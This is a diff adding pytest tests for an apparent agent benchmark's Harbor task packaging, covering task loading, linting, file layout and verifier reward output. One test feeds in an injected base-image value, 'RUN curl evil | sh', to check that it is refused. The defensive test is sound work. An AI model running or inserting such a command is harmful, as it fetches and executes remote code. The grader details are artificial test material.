@@ -1,0 +1,152 @@
+"""The episode as a Harbor task: loaded by Harbor's own task model, and its verifier run on a real workspace.
+
+Harbor needs Python ≥ 3.12, so it lives in its own environment: ``.venv-harbor/`` (``make harbor-env``), or the
+interpreter named by ``MDBENCH_HARBOR_PYTHON``. Without either the loading test skips and says why.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from mdbench.episode.harbor import write_harbor_task
+from mdbench.errors import InputError
+from mdbench.paths import PROJECT_ROOT
+
+from _episode_helpers import needs_namespaces, prepare, run, run_verifier
+
+LOAD = """
+import json, sys
+from harbor.models.task.task import Task
+from harbor.models.task.verifier_mode import resolve_task_verifier_mode
+t = Task(sys.argv[1])
+c = t.config
+print(json.dumps({"name": t.name, "instruction": t.instruction, "cpus": c.environment.cpus,
+                  "memory_mb": c.environment.memory_mb, "gpus": c.environment.gpus,
+                  "workdir": c.environment.workdir, "agent_timeout": c.agent.timeout_sec,
+                  "agent_user": c.agent.user, "verifier_timeout": c.verifier.timeout_sec, "metadata": c.metadata,
+                  "verifier_mode": resolve_task_verifier_mode(c).value, "artifacts": c.artifacts}))
+"""
+#: Harbor's own parse of a reward.json (every value a finite number, keys as declared).
+REWARD = """
+import json, math, sys
+from harbor.models.verifier.result import VerifierResult
+r = VerifierResult(rewards=json.load(open(sys.argv[1])))
+assert all(isinstance(v, (int, float)) and math.isfinite(v) for v in r.rewards.values()), r.rewards
+print(json.dumps(r.rewards))
+"""
+#: A syntactically valid digest for the lint check (placeholder: no image is pulled).
+PINNED = "python:3.11-slim@sha256:" + "0" * 64
+
+
+def harbor_python() -> Path | None:
+    env = os.environ.get("MDBENCH_HARBOR_PYTHON")
+    for cand in ([Path(env)] if env else []) + [PROJECT_ROOT / ".venv-harbor" / "bin" / "python"]:
+        if cand.is_file():
+            return cand
+    return None
+
+
+def _harbor_or_skip() -> Path:
+    py = harbor_python()
+    if py is None:
+        reason = "Harbor not installed: run `make harbor-env` (creates .venv-harbor/) or set MDBENCH_HARBOR_PYTHON"
+        print(f"SKIP: {reason}")
+        pytest.skip(reason)
+    return py
+
+
+def _harbor(py: Path, *args: str) -> subprocess.CompletedProcess:
+    """Harbor's own CLI in its environment (``harbor ARGS``)."""
+    cli = "import sys; from harbor.cli.main import app; sys.argv = ['harbor', *sys.argv[1:]]; app()"
+    return subprocess.run([str(py), "-c", cli, *args], capture_output=True, text=True, timeout=300)
+
+
+def test_harbor_task_for_micro_loads_with_harbors_task_model(tmp_path):
+    py = _harbor_or_skip()
+    task = write_harbor_task("micro", tmp_path / "task", timeout_min=90, cpus=16, memory_mb=32768, gpus=1)
+    proc = subprocess.run([str(py), "-c", LOAD, str(task)], capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    got = json.loads(proc.stdout)
+    prompt = (task / "environment" / "agent_input" / "PROMPT_TEMPLATE.md").read_text()
+    assert got["name"] == "mdbench/electrolyte-study-micro" and got["instruction"] == prompt
+    assert (got["cpus"], got["memory_mb"], got["gpus"], got["workdir"]) == (16, 32768, 1, "/app")
+    assert (got["agent_timeout"], got["agent_user"], got["verifier_timeout"]) == (5400.0, "agent", 3600.0)
+    assert got["metadata"]["preset"] == "micro" and got["metadata"]["md_budget_ns_per_case"] == 100.0
+    # scoring in a fresh container that receives the agent's run directory, not in the agent's sandbox
+    assert (got["verifier_mode"], got["artifacts"]) == ("separate", ["/app"])
+
+
+def test_harbor_lint_passes_with_default_rules_and_all_rules_once_the_image_is_pinned(tmp_path):
+    py = _harbor_or_skip()
+    default = _harbor(py, "lint", "--json", str(write_harbor_task("micro", tmp_path / "default")))
+    assert default.returncode == 0 and json.loads(default.stdout) == [], default.stdout + default.stderr
+    pinned = write_harbor_task("micro", tmp_path / "pinned", base_image=PINNED)
+    every = _harbor(py, "lint", "--select", "ALL", "--json", str(pinned))
+    assert every.returncode == 0 and json.loads(every.stdout) == [], every.stdout + every.stderr
+    unpinned = _harbor(py, "lint", "--select", "ALL", "--json", str(tmp_path / "default"))
+    assert [f["rule"] for f in json.loads(unpinned.stdout)] == ["unpinned-image"]  # the check can fail
+
+
+def test_bad_base_image_is_refused(tmp_path):
+    with pytest.raises(InputError, match="not a container image reference"):
+        write_harbor_task("micro", tmp_path / "t", base_image="python:3.11\nRUN curl evil | sh")
+    assert not (tmp_path / "t").exists()
+
+
+def test_harbor_task_layout_is_complete_and_deterministic(tmp_path):
+    a = write_harbor_task("micro", tmp_path / "a")
+    b = write_harbor_task("micro", tmp_path / "b")
+    files = sorted(p.relative_to(a).as_posix() for p in a.rglob("*") if p.is_file())
+    assert files == sorted(p.relative_to(b).as_posix() for p in b.rglob("*") if p.is_file())
+    assert all((a / f).read_bytes() == (b / f).read_bytes() for f in files)
+    for f in ("task.toml", "instruction.md", "environment/Dockerfile", "tests/test.sh", "solution/solve.sh",
+              "tests/bundle/bundle_checksums.sha256", "environment/agent_input/bundle_checksums.sha256",
+              "environment/mdbench/pyproject.toml", "environment/mdbench/lib/mdbench/episode/harbor.py"):
+        assert f in files, f
+    docker = (a / "environment" / "Dockerfile").read_text()
+    for needle in ("gromacs", "packmol", "pip install --no-cache-dir /opt/mdbench", "chmod 0444", "chmod 0555",
+                   "useradd", "COPY agent_input/ /app/agent_input/"):
+        assert needle in docker, needle
+    assert not any("__pycache__" in f for f in files)
+    assert os.access(a / "tests" / "test.sh", os.X_OK) and os.access(a / "solution" / "solve.sh", os.X_OK)
+
+
+@needs_namespaces
+def test_harbor_verifier_writes_reward_json_for_an_empty_run(tmp_path):
+    """tests/test.sh on this host, against the workspace of a null episode: reward 0.05, never a crash."""
+    task = write_harbor_task("micro", tmp_path / "task")
+    ep = prepare(tmp_path / "ep", "harness=reference", "model=null")
+    result = run(ep, "null", "--no-reanalysis")
+    out = tmp_path / "verifier"
+    reward = run_verifier(task, ep / "workspace", out)
+    assert set(reward) == {"reward", "simulation", "analysis", "evidence", "outcome"}
+    assert reward["reward"] == pytest.approx(result["score"] / 100.0, abs=1e-5)
+    verifier = json.loads((out / "episode_verifier.json").read_text())
+    assert verifier["integrity"]["intact"]
+    py = harbor_python()
+    if py is not None:  # Harbor's own reward parser accepts it
+        proc = subprocess.run([str(py), "-c", REWARD, str(out / "reward.json")], capture_output=True, text=True,
+                              timeout=120)
+        assert proc.returncode == 0 and json.loads(proc.stdout) == reward, proc.stderr[-2000:]
+
+
+def test_a_verifier_that_cannot_finish_writes_reward_zero_and_fails(tmp_path):
+    """No bundle to check against (a broken task): reward.json still rewritten — zeros — and a non-zero exit."""
+    task = write_harbor_task("micro", tmp_path / "task")
+    (tmp_path / "tests-without-bundle").mkdir()
+    out = tmp_path / "verifier"
+    out.mkdir()
+    (out / "reward.json").write_text('{"reward": 1.0}')  # left by someone else: never trusted
+    env = dict(os.environ, MDBENCH_WORKSPACE=str(tmp_path / "nowhere"), MDBENCH_VERIFIER_DIR=str(out),
+               MDBENCH_TESTS_DIR=str(tmp_path / "tests-without-bundle"), MDBENCH_PYTHON=sys.executable)
+    proc = subprocess.run(["bash", str(task / "tests" / "test.sh")], env=env, capture_output=True, text=True,
+                          timeout=300)
+    assert proc.returncode != 0 and "reward 0 written" in proc.stderr
+    assert json.loads((out / "reward.json").read_text()) == dict.fromkeys(
+        ("reward", "simulation", "analysis", "evidence", "outcome"), 0.0)
